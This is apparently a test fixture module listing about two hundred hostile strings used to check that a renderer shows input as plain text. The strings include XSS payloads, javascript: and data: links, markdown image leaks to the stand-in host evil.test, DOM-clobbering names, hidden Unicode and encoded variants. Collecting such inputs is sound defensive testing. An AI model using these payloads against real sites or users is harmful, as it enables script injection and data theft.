/**
 * Texts that try to run script, load something, or leave the page. Each marks its success by calling `pwned()` or by
 * asking for `evil.test`; the tests look for both.
 */
const tags = [
  "<script>pwned()</script>", "<script src=\"https://evil.test/x.js\"></script>", "<img src=x onerror=pwned()>", "<img src=https://evil.test/p.png>",
  "<svg onload=pwned()>", "<svg><script>pwned()</script></svg>", "<svg><a xlink:href=\"javascript:pwned()\"><text>x</text></a></svg>",
  "<svg><animate onbegin=pwned() attributeName=x dur=1s>", "<svg><foreignObject><iframe src=\"javascript:pwned()\"></iframe></foreignObject></svg>",
  "<math><mtext><table><mglyph><style><img src onerror=pwned()>", "<math href=\"javascript:pwned()\">x</math>", "<iframe src=\"javascript:pwned()\"></iframe>",
  "<iframe srcdoc=\"<script>parent.pwned()</script>\"></iframe>", "<object data=\"javascript:pwned()\"></object>", "<embed src=\"https://evil.test/\">",
  "<link rel=stylesheet href=https://evil.test/x.css>", "<style>@import 'https://evil.test/x.css';</style>", "<meta http-equiv=refresh content=\"0;url=https://evil.test/\">",
  "<base href=https://evil.test/>", "<form action=https://evil.test/><button>go</button></form>", "<input autofocus onfocus=pwned()>", "<details open ontoggle=pwned()>",
  "<video><source onerror=pwned()></video>", "<audio src=https://evil.test/a.mp3 autoplay>", "<body onload=pwned()>", "<marquee onstart=pwned()>",
  "<template><script>pwned()</script></template>", "<noscript><p title=\"</noscript><img src=x onerror=pwned()>\">", "<a href=\"javascript:pwned()\">x</a>",
  "<div style=\"background:url(https://evil.test/b.png)\">x</div>", "<isindex action=javascript:pwned()>", "<!--><img src=x onerror=pwned()>-->",
  "<![CDATA[<img src=x onerror=pwned()>]]>", "<xss id=x tabindex=1 onfocus=pwned()></xss>", "</textarea><script>pwned()</script>", "</title><script>pwned()</script>",
  "\"><script>pwned()</script>", "' onmouseover='pwned()", "\" autofocus onfocus=\"pwned()", "`${pwned()}`", "{{constructor.constructor('pwned()')()}}", "${pwned()}", "<%= pwned() %>",
];

const markdown = [
  "[x](javascript:pwned())", "[x](JaVaScRiPt:pwned())", "[x](java\nscript:pwned())", "[x](\u0001javascript:pwned())", "[x](data:text/html,<script>pwned()</script>)",
  "[x](vbscript:pwned())", "[x](//evil.test)", "![x](https://evil.test/leak.png?d=secret)", "![](https://evil.test/leak.png)", "[![x](https://evil.test/a.png)](https://evil.test)",
  "[x]: https://evil.test/a\n\n![x]", "<https://evil.test>", "[x](https://user:secret@evil.test)", "[https://bank.example](https://evil.test/login)", "`<img src=x onerror=pwned()>`",
  "```html\n<script>pwned()</script>\n```", "> <script>pwned()</script>", "- <img src=x onerror=pwned()>", "| <script>pwned()</script> | b |\n|---|---|\n| <img src=x onerror=pwned()> | c |",
  "# <svg onload=pwned()>", "**<b onclick=pwned()>x</b>**", "[a](https://evil.test/\" onclick=\"pwned())", "[\"onclick=pwned() x](https://evil.test)", "$$\\href{javascript:pwned()}{x}$$",
  "$\\unicode{<img src=x onerror=pwned()>}$", "\\[\\includegraphics{https://evil.test/a.png}\\]", ":::{onclick=pwned()}", "[^1]: <script>pwned()</script>",
];

const names = ["__proto__", "constructor", "toString", "app", "document", "message", "plan-title", "<form id=app><input name=append>", "<img name=body>", "<a id=fetch href=https://evil.test>"];

const invisible = [
  "\u202Eelpmis\u202C", "a\u200Bb\u200Cc\u2060d", "\u{E0041}\u{E0042}\u{E0043}", "x\uFE0F\u{E0101}", "\u2066<script>pwned()</script>\u2069",
  "line\u2028pwned()\u2029end", "\uFEFF<script>pwned()</script>", "data: {\"type\":\"done\"}\n\ndata: x", "event: error\ndata: x", "id: 1\nretry: 1",
];

/** Encodings and cases that have fooled filters before; ours filters nothing, so they have to stay plain text. */
const encoded = tags.slice(0, 30).flatMap((tag) => [
  tag.replaceAll("<", "&lt;").replaceAll(">", "&gt;"), tag.replaceAll("<", "%3C"), tag.toUpperCase(), tag.replaceAll(" ", "/"),
]);

/** All of them, around two hundred. */
export const hostileTexts = [...tags, ...markdown, ...names, ...invisible, ...encoded];
